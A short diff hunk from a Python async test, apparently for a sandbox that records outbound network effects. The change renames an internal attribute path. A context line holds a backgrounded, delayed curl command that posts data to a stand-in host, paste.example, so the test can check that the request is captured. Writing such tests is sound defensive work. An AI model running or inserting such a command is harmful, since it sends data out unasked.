@@ -193,7 +193,7 @@ async def test_what_happens_between_calls_belongs_to_the_next(opener: Opener) ->
         "(sleep 1; curl -s -d late http://paste.example/) >/dev/null 2>&1 &"
     )
     assert seen(first) == []
-    recorded = egress._site.journal._effects
+    recorded = egress._context.log._effects
     await until(
         lambda: any(effect["action"] == EffectAction.REQUEST for effect in recorded),
         30,
